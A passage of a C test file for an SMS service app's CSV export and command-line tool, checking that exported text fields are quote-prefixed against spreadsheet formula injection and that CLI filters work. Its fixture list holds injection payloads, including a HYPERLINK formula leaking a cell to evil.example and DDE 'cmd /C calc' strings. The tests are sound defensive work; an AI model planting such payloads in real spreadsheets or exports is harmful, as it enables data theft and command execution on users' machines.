  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
  "+447700900123",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tindented=1+1",
  "\r\n=1+1",
  "=1,2\n\"quoted\"",
};

static SrMessage *
make_hostile_message (guint i)
{
  SrMessage *message = sr_message_new_empty ();
  const char *text = hostile_texts[i % G_N_ELEMENTS (hostile_texts)];

  message->id = g_strdup_printf ("-id-%u", i);
  message->to = g_strdup (i == 0 ? "+447700900123" : text);
  message->sender_id = g_strdup (i == 1 ? "Shop" : text);
  message->message = g_strdup (text);
  message->campaign_id = g_strdup (text);
  message->failed_reason = g_strdup (text);
  message->status_raw = g_strdup ("=FAILED");
  message->status = SR_STATUS_UNKNOWN;
  message->created_at = (G_GINT64_CONSTANT (1772000000) + i) * G_USEC_PER_SEC;
  message->cost = -0.5;
  message->sms_count = 2;
  return message;
}

static void
assert_hostile_row (GPtrArray  *rows,
                    guint       row,
                    SrMessage  *message,
                    gboolean    exact)
{
  struct { guint column; const char *value; } text_columns[] = {
    { COL_ID, sr_message_get_id (message) },
    { COL_TO, sr_message_get_to (message) },
    { COL_SENDER_ID, sr_message_get_sender_id (message) },
    { COL_STATUS, sr_message_get_status_raw (message) },
    { COL_CAMPAIGN_ID, sr_message_get_campaign_id (message) },
    { COL_FAILED_REASON, sr_message_get_failed_reason (message) },
    { COL_MESSAGE, sr_message_get_message (message) },
  };

  for (guint i = 0; i < G_N_ELEMENTS (text_columns); i++)
    {
      const char *value = text_columns[i].value;
      const char *got = cell (rows, row, text_columns[i].column);

      if (exact || g_str_equal (value, "Shop"))
        g_assert_cmpstr (got, ==, value);
      else
        {
          g_assert_cmpint (got[0], ==, '\'');
          g_assert_cmpstr (got + 1, ==, value);
        }
    }
  /* Our own numbers, a negative cost too, are never prefixed */
  g_assert_cmpstr (cell (rows, row, COL_SMS_COUNT), ==, "2");
  g_assert_cmpstr (cell (rows, row, COL_COST), ==, "-0.5");
}

static void
test_formula_safe (void)
{
  g_autofree char *dir = sr_test_make_tmpdir ("test-export-formulas");
  g_autofree char *db_path = g_build_filename (dir, "hostile.db", NULL);
  g_autofree char *csv_path = g_build_filename (dir, "hostile.csv", NULL);
  g_autofree char *exact_path = g_build_filename (dir, "exact.csv", NULL);
  g_autoptr(GFile) csv_file = g_file_new_for_path (csv_path);
  g_autoptr(GFile) exact_file = g_file_new_for_path (exact_path);
  g_autoptr(GPtrArray) messages = g_ptr_array_new_with_free_func (g_object_unref);
  g_autoptr(GPtrArray) stored = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GPtrArray) exact_rows = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(SrCache) cache = NULL;
  g_autofree char *contents = NULL;
  gint64 n;

  cache = sr_cache_open (db_path, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (hostile_texts); i++)
    g_ptr_array_add (messages, make_hostile_message (i));
  g_assert_true (sr_cache_upsert_messages (cache, messages, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  stored = sr_cache_query_messages (cache, NULL, SR_MESSAGE_SORT_CREATED, FALSE, -1, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (stored->len, ==, G_N_ELEMENTS (hostile_texts));

  /* The app's export (the same flags as the Export… action) */
  n = sr_export_messages (cache, NULL, SR_MESSAGE_SORT_CREATED, FALSE, csv_file,
                          SR_CSV_FLAGS_LOCAL_TIME, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (n, ==, G_N_ELEMENTS (hostile_texts));
  rows = read_csv_file (csv_path);
  g_assert_cmpuint (rows->len, ==, n + 1);
  for (guint i = 0; i < stored->len; i++)
    assert_hostile_row (rows, i + 1, g_ptr_array_index (stored, i), FALSE);

  /* The bytes OWASP asks for: the quote inside the enclosing quotes */
  g_assert_true (g_file_get_contents (csv_path, &contents, NULL, NULL));
  g_assert_nonnull (strstr (contents, ",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\","));
  g_assert_nonnull (strstr (contents, "\"'+447700900123\""));

  /* Exact data for scripts */
  n = sr_export_messages (cache, NULL, SR_MESSAGE_SORT_CREATED, FALSE, exact_file,
                          SR_CSV_FLAGS_EXACT, NULL, &error);
  g_assert_no_error (error);
  exact_rows = read_csv_file (exact_path);
  g_assert_cmpuint (exact_rows->len, ==, n + 1);
  for (guint i = 0; i < stored->len; i++)
    assert_hostile_row (exact_rows, i + 1, g_ptr_array_index (stored, i), TRUE);

  /* Campaign rows: id, sender, status and text are text fields too */
  {
    g_autoptr(SrCampaign) campaign = sr_campaign_new_empty ();
    g_autoptr(GString) out = g_string_new (NULL);
    g_autoptr(GString) exact = g_string_new (NULL);
    g_autoptr(GPtrArray) campaign_rows = NULL;
    g_autoptr(GPtrArray) exact_campaign_rows = NULL;

    campaign->id = g_strdup ("-1");
    campaign->sender_id = g_strdup ("@Shop");
    campaign->status = g_strdup ("+Sent");
    campaign->message = g_strdup (hostile_texts[0]);
    campaign->client_total_cost = -1.5;
    campaign->created_at = G_GINT64_CONSTANT (1772000000) * G_USEC_PER_SEC;
    sr_export_append_campaign_header (out, SR_CSV_FLAGS_NONE);
    sr_export_append_campaign (out, campaign, SR_CSV_FLAGS_NONE);
    sr_export_append_campaign_header (exact, SR_CSV_FLAGS_EXACT);
    sr_export_append_campaign (exact, campaign, SR_CSV_FLAGS_EXACT);
    campaign_rows = parse_csv (out->str, out->len);
    exact_campaign_rows = parse_csv (exact->str, exact->len);
    g_assert_cmpstr (cell (campaign_rows, 1, 0), ==, "'-1");
    g_assert_cmpstr (cell (campaign_rows, 1, 2), ==, "'@Shop");
    g_assert_cmpstr (cell (campaign_rows, 1, 4), ==, "'+Sent");
    g_assert_cmpstr (cell (campaign_rows, 1, 11), ==, "-1.5");
    g_assert_cmpstr (cell (campaign_rows, 1, 12) + 1, ==, hostile_texts[0]);
    g_assert_cmpstr (cell (exact_campaign_rows, 1, 0), ==, "-1");
    g_assert_cmpstr (cell (exact_campaign_rows, 1, 2), ==, "@Shop");
    g_assert_cmpstr (cell (exact_campaign_rows, 1, 12), ==, hostile_texts[0]);
  }

  sr_cache_close (cache);
  sr_test_remove_tree (dir);
}

/* --- the CLI ---------------------------------------------------------------- */

typedef struct
{
  char *data_dir;
} Cli;

static int
run_cli (Cli         *cli,
         char       **out_stdout,
         ...)
{
  g_autoptr(GSubprocessLauncher) launcher = NULL;
  g_autoptr(GSubprocess) process = NULL;
  g_autoptr(GPtrArray) args = g_ptr_array_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  const char *url = sr_test_sandbox_get_url (shared.sandbox);
  const char *arg;
  va_list ap;

  g_ptr_array_add (args, (gpointer) g_getenv ("SR_CLI_PATH"));
  g_ptr_array_add (args, "--api-url");
  g_ptr_array_add (args, (gpointer) url);
  g_ptr_array_add (args, "--auth-url");
  g_ptr_array_add (args, (gpointer) url);
  g_ptr_array_add (args, "--data-dir");
  g_ptr_array_add (args, cli->data_dir);
  va_start (ap, out_stdout);
  while ((arg = va_arg (ap, const char *)) != NULL)
    g_ptr_array_add (args, (gpointer) arg);
  va_end (ap);
  g_ptr_array_add (args, NULL);

  launcher = g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDOUT_PIPE | G_SUBPROCESS_FLAGS_STDERR_PIPE);
  g_subprocess_launcher_setenv (launcher, "SMSTO_API_KEY", sr_test_sandbox_get_api_key (shared.sandbox), TRUE);
  process = g_subprocess_launcher_spawnv (launcher, (const char * const *) args->pdata, &error);
  g_assert_no_error (error);
  g_subprocess_communicate_utf8 (process, NULL, NULL, &out, &err, &error);
  g_assert_no_error (error);
  if (g_test_verbose () && err != NULL && *err != '\0')
    g_printerr ("%s", err);

  if (out_stdout != NULL)
    *out_stdout = g_steal_pointer (&out);

  g_assert_true (g_subprocess_get_if_exited (process));
  return g_subprocess_get_exit_status (process);
}

static GPtrArray *
cli_csv (Cli *cli,
         ...)
{
  g_autoptr(GPtrArray) args = g_ptr_array_new ();
  g_autofree char *out = NULL;
  const char *arg;
  va_list ap;
  int status;

  va_start (ap, cli);
  while ((arg = va_arg (ap, const char *)) != NULL)
    g_ptr_array_add (args, (gpointer) arg);
  va_end (ap);
  /* After the command word: the CLI takes the first word as the command */
  g_ptr_array_add (args, "--format");
  g_ptr_array_add (args, "csv");
  g_assert_cmpuint (args->len, <=, 10);
  for (guint i = args->len; i < 10; i++)
    g_ptr_array_add (args, NULL);

  status = run_cli (cli, &out,
                    g_ptr_array_index (args, 0), g_ptr_array_index (args, 1),
                    g_ptr_array_index (args, 2), g_ptr_array_index (args, 3),
                    g_ptr_array_index (args, 4), g_ptr_array_index (args, 5),
                    g_ptr_array_index (args, 6), g_ptr_array_index (args, 7),
                    g_ptr_array_index (args, 8), g_ptr_array_index (args, 9), NULL);
  g_assert_cmpint (status, ==, 0);
  return parse_csv (out, strlen (out));
}

/* The ids in column 0 of rows 1…, against the ids of campaigns that pass
 * match (in created order). */
typedef gboolean (*CampaignMatch) (SrCampaign *campaign,
                                   gpointer    data);

static void
assert_campaign_ids (GPtrArray     *rows,
                     GPtrArray     *all,
                     CampaignMatch  match,
                     gpointer       data)
{
  guint k = 1;

  for (guint i = 0; i < all->len; i++)
    {
      SrCampaign *campaign = g_ptr_array_index (all, i);

      if (!match (campaign, data))
        continue;
      g_assert_cmpuint (k, <, rows->len);
      g_assert_cmpstr (cell (rows, k, 0), ==, sr_campaign_get_id (campaign));
      k++;
    }
  g_assert_cmpuint (k, ==, rows->len);
}

static gboolean
match_api (SrCampaign *campaign, gpointer data)
{
  return sr_campaign_get_is_api (campaign) == GPOINTER_TO_INT (data);
}

static gboolean
match_sender (SrCampaign *campaign, gpointer data)
{
  return g_strcmp0 (sr_campaign_get_sender_id (campaign), data) == 0;
}

static gboolean
match_range (SrCampaign *campaign, gpointer data)
{
  const gint64 *range = data;
  gint64 created = sr_campaign_get_created_at (campaign);

  return created >= range[0] && created < range[1];
}

static gboolean
match_search (SrCampaign *campaign, gpointer data)
{
  const char *needle = data;
  const char *fields[] = {
    sr_campaign_get_id (campaign), sr_campaign_get_sender_id (campaign), sr_campaign_get_message (campaign),
  };

  for (guint i = 0; i < G_N_ELEMENTS (fields); i++)
    {
      g_autofree char *folded = fields[i] != NULL ? g_ascii_strdown (fields[i], -1) : NULL;
      g_autofree char *folded_needle = g_ascii_strdown (needle, -1);

      if (folded != NULL && strstr (folded, folded_needle) != NULL)
        return TRUE;
    }
  return FALSE;
}

static void
test_cli (void)
{
  Cli cli = { NULL };
  g_autofree char *dir = NULL;
  g_autofree char *out = NULL;
  g_autofree char *cache_path = NULL;
  g_autofree char *file_name = NULL;
  g_autoptr(SrCache) cache = NULL;
  g_autoptr(GPtrArray) all = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GError) error = NULL;
  sqlite3 *raw = NULL;
  const char *campaign_id = NULL;
  const char *sender;

  ensure_shared_cache ();
  dir = sr_test_make_tmpdir ("test-export-cli");
  cli.data_dir = g_build_filename (dir, "data", NULL);

  g_assert_cmpint (run_cli (&cli, &out, "sync", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "New messages: 20000"));
  g_clear_pointer (&out, g_free);

  /* Read what the CLI synced, for the expectations */
  file_name = sr_cache_dup_account_file_name (sr_test_sandbox_get_url (shared.sandbox),
                                              sr_test_sandbox_get_api_key (shared.sandbox));
  cache_path = g_build_filename (cli.data_dir, file_name, NULL);
  cache = sr_cache_open (cache_path, &error);
  g_assert_no_error (error);
  all = sr_cache_query_campaigns (cache, NULL, SR_CAMPAIGN_SORT_CREATED, FALSE, -1, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (all->len, ==, 120);

  /* --source */
  rows = cli_csv (&cli, "campaigns", "--source", "api", NULL);
  g_assert_cmpstr (cell (rows, 0, 3), ==, "source");
  g_assert_cmpuint (rows->len, >, 1);
  assert_campaign_ids (rows, all, match_api, GINT_TO_POINTER (TRUE));
  for (guint i = 1; i < rows->len; i++)
    g_assert_cmpstr (cell (rows, i, 3), ==, "API");
  g_clear_pointer (&rows, g_ptr_array_unref);

  rows = cli_csv (&cli, "campaigns", "--source", "WEB", NULL);
  g_assert_cmpuint (rows->len, >, 1);
  assert_campaign_ids (rows, all, match_api, GINT_TO_POINTER (FALSE));
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* --sender */
  sender = sr_campaign_get_sender_id (g_ptr_array_index (all, 0));
  rows = cli_csv (&cli, "campaigns", "--sender", sender, NULL);
  g_assert_cmpuint (rows->len, >, 1);
  assert_campaign_ids (rows, all, match_sender, (gpointer) sender);
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* --from/--to: whole UTC days, --to included */
  {
    gint64 range[2];
    g_autoptr(GDateTime) from = g_date_time_new_utc (2026, 2, 1, 0, 0, 0);
    g_autoptr(GDateTime) to = g_date_time_new_utc (2026, 3, 1, 0, 0, 0);

    range[0] = g_date_time_to_unix (from) * G_USEC_PER_SEC;
    range[1] = g_date_time_to_unix (to) * G_USEC_PER_SEC;
    rows = cli_csv (&cli, "campaigns", "--from", "2026-02-01", "--to", "2026-02-28", NULL);
    g_assert_cmpuint (rows->len, >, 1);
    g_assert_cmpuint (rows->len, <, all->len + 1);
    assert_campaign_ids (rows, all, match_range, range);
    g_clear_pointer (&rows, g_ptr_array_unref);
  }

  /* --search, case-insensitive, over id, sender and text */
  rows = cli_csv (&cli, "campaigns", "--search", "SALE", NULL);
  g_assert_cmpuint (rows->len, >, 1);
  assert_campaign_ids (rows, all, match_search, (gpointer) "SALE");
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* The CSV is the export's (the same code) */
  {
    g_autoptr(GString) expected = g_string_new (NULL);

    g_assert_cmpint (run_cli (&cli, &out, "campaigns", "--format", "csv", "--limit", "3", NULL), ==, 0);
    sr_export_append_campaign_header (expected, SR_CSV_FLAGS_NONE);
    for (guint i = 0; i < 3; i++)
      sr_export_append_campaign (expected, g_ptr_array_index (all, i), SR_CSV_FLAGS_NONE);
    g_assert_cmpstr (out, ==, expected->str);
    g_clear_pointer (&out, g_free);
  }

  /* Bad values */
  g_assert_cmpint (run_cli (&cli, NULL, "campaigns", "--source", "fax", NULL), ==, 1);
  g_assert_cmpint (run_cli (&cli, NULL, "campaigns", "--from", "yesterday", NULL), ==, 1);

  /* --failed-only: a campaign with messages that did not arrive */
  g_assert_cmpint (sqlite3_open_v2 (cache_path, &raw, SQLITE_OPEN_READONLY, NULL), ==, SQLITE_OK);
  {
    sqlite3_stmt *stmt = NULL;

    g_assert_cmpint (sqlite3_prepare_v2 (raw,
                                         "SELECT campaign_id FROM messages WHERE campaign_id IS NOT NULL"
                                         " AND status_raw = 'UNDELIVERED' GROUP BY campaign_id"
                                         " ORDER BY count (*) DESC LIMIT 1", -1, &stmt, NULL), ==, SQLITE_OK);
    g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
    campaign_id = g_intern_string ((const char *) sqlite3_column_text (stmt, 0));
    sqlite3_finalize (stmt);
  }
  {
    g_autoptr(GPtrArray) expected = g_ptr_array_new_with_free_func (g_free);
    sqlite3_stmt *stmt = NULL;
    g_autoptr(GPtrArray) alias = NULL;

    /* Independent: the raw strings, in created order */
    g_assert_cmpint (sqlite3_prepare_v2 (raw,
                                         "SELECT id FROM messages WHERE campaign_id = ?1 AND status_raw NOT IN"
                                         " ('DELIVERED', 'SENT', 'SENDING', 'QUEUED', 'SCHEDULED')"
                                         " ORDER BY created_at, rowid", -1, &stmt, NULL), ==, SQLITE_OK);
    sqlite3_bind_text (stmt, 1, campaign_id, -1, SQLITE_STATIC);
    while (sqlite3_step (stmt) == SQLITE_ROW)
      g_ptr_array_add (expected, g_strdup ((const char *) sqlite3_column_text (stmt, 0)));
    sqlite3_finalize (stmt);
    g_assert_cmpuint (expected->len, >, 0);

    rows = cli_csv (&cli, "messages", "--campaign", campaign_id, "--failed-only", NULL);
    alias = cli_csv (&cli, "campaign-messages", campaign_id, "--failed-only", NULL);
    g_assert_cmpuint (rows->len, ==, expected->len + 1);
    g_assert_cmpuint (alias->len, ==, expected->len + 1);
    for (guint i = 0; i < expected->len; i++)
      {
        const char *status = cell (rows, i + 1, COL_STATUS);

        g_assert_cmpstr (cell (rows, i + 1, COL_ID), ==, g_ptr_array_index (expected, i));
        g_assert_cmpstr (cell (alias, i + 1, COL_ID), ==, g_ptr_array_index (expected, i));
        g_assert_cmpstr (cell (rows, i + 1, COL_CAMPAIGN_ID), ==, campaign_id);
        g_assert_true (g_str_equal (status, "FAILED") || g_str_equal (status, "EXPIRED") ||
                       g_str_equal (status, "REJECTED") || g_str_equal (status, "UNSUBSCRIBED") ||
                       g_str_equal (status, "UNDELIVERED"));
      }
    g_clear_pointer (&rows, g_ptr_array_unref);
  }

  /* Every message of the campaign without --failed-only; JSON works too */
  {
    g_autoptr(JsonParser) parser = json_parser_new ();
    g_autoptr(SrMessageFilter) filter = sr_message_filter_new ();
    JsonArray *array;

    filter->campaign_id = g_strdup (campaign_id);
    g_assert_cmpint (run_cli (&cli, &out, "campaign-messages", campaign_id, "--format", "json", NULL), ==, 0);
    json_parser_load_from_data (parser, out, -1, &error);
    g_assert_no_error (error);
    array = json_node_get_array (json_parser_get_root (parser));
    g_assert_cmpint (json_array_get_length (array), ==, sr_cache_count_messages (cache, filter, NULL));
    g_clear_pointer (&out, g_free);
  }

  /* --failed-only with --status keeps the statuses asked for that did not arrive */
  rows = cli_csv (&cli, "campaign-messages", campaign_id, "--failed-only", "--status", "DELIVERED", NULL);
  g_assert_cmpuint (rows->len, ==, 1);
  g_clear_pointer (&rows, g_ptr_array_unref);
  rows = cli_csv (&cli, "campaign-messages", campaign_id, "--failed-only", "--status", "DELIVERED,OTHER", NULL);
  g_assert_cmpuint (rows->len, >, 1);
  for (guint i = 1; i < rows->len; i++)
    g_assert_cmpstr (cell (rows, i, COL_STATUS), ==, "UNDELIVERED");
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* Usage and unknown campaigns */
  g_assert_cmpint (run_cli (&cli, NULL, "campaign-messages", NULL), ==, 1);
  g_assert_cmpint (run_cli (&cli, NULL, "campaign-messages", "a", "b", NULL), ==, 1);
  g_assert_cmpint (run_cli (&cli, NULL, "campaign-messages", "no-such-campaign", NULL), ==, 4);

  sqlite3_close (raw);
  sr_cache_close (cache);
  sr_test_remove_tree (dir);
  g_free (cli.data_dir);
}

int
main (int    argc,
      char **argv)
{
  int ret;

  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/export/tsv", test_tsv);
  g_test_add_func ("/export/formula-safe", test_formula_safe);
  g_test_add_func ("/export/view", test_view);
  g_test_add_func ("/export/not-arrived", test_not_arrived);
  g_test_add_func ("/export/blocking", test_blocking);
  g_test_add_func ("/export/errors", test_errors);
  g_test_add_func ("/export/cancel", test_cancel);
  g_test_add_func ("/export/campaigns", test_campaigns);
  g_test_add_func ("/export/campaign-filter", test_campaign_filter);
  g_test_add_func ("/export/cli", test_cli);

  ret = g_test_run ();
  free_shared ();

  return ret;
}
